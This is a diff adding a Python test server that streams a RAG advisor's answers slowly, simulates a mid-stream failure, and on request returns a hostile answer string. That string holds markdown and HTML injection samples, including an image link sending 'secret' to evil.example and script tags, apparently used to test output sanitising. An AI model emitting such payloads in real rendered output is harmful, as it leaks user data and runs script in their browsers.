@@ -1,0 +1,64 @@
+"""The page over the role guide, whose answers take their time as a chat model's do: python slow_server.py PORT."""
+
+from __future__ import annotations
+
+import re
+import sys
+import time
+from collections.abc import Iterator
+from dataclasses import fields
+
+import uvicorn
+
+from advisor.answer import Answer, Status
+from advisor.assembly import open_shelf
+from advisor.follow_up import History
+from advisor.library import Within
+from advisor.rag import Advisor, Chat, Reply
+from advisor.web.server import application
+
+_SLOW = 60  # pieces; three seconds
+HOSTILE = (
+    "![x](https://evil.example/?d=secret) [here](https://evil.example) <https://evil.example> www.evil.example "
+    '<img src="https://evil.example/x"> <script>window.hacked = 1</script> \\<script>window.hacked = 2</script> '
+    "`![x](https://evil.example/c)` [ref][9] from ~5 to ~10, $$x$$, a\\*b\n\n[ref]: https://evil.example\n"
+)
+
+
+class Slow(Advisor):
+    """The advisor, taking its time over the first pieces of an answer."""
+
+    def chat(
+        self, history: History = (), *, within: Within = None, length: str = "normal", model: str | None = None
+    ) -> SlowChat:
+        return SlowChat(self, list(history), within, length, model)
+
+
+class SlowChat(Chat):
+    def stream(self, question: str) -> SlowReply:
+        return SlowReply(super().stream(question), question)
+
+
+class SlowReply:
+    def __init__(self, reply: Reply, question: str) -> None:
+        hostile = Answer(text=HOSTILE, status=Status.PARTIAL, question=question)
+        self.answer = hostile if "hostile" in question else reply.answer
+        self.fails = "fail" in question
+
+    def __iter__(self) -> Iterator[str]:
+        for number, piece in enumerate(re.findall(r"\S+\s*", self.answer.text)):
+            if self.fails and number == 5:
+                raise RuntimeError("the model has gone")
+            time.sleep(0.05 if number < _SLOW else 0)
+            yield piece
+
+
+def main(port: int) -> None:
+    """Serve until killed."""
+    advisor, shelf = open_shelf()
+    slow = Slow(**{field.name: getattr(advisor, field.name) for field in fields(advisor)})
+    uvicorn.run(application(slow, shelf), port=port, log_level="critical", timeout_graceful_shutdown=1)
+
+
+if __name__ == "__main__":
+    main(int(sys.argv[1]))
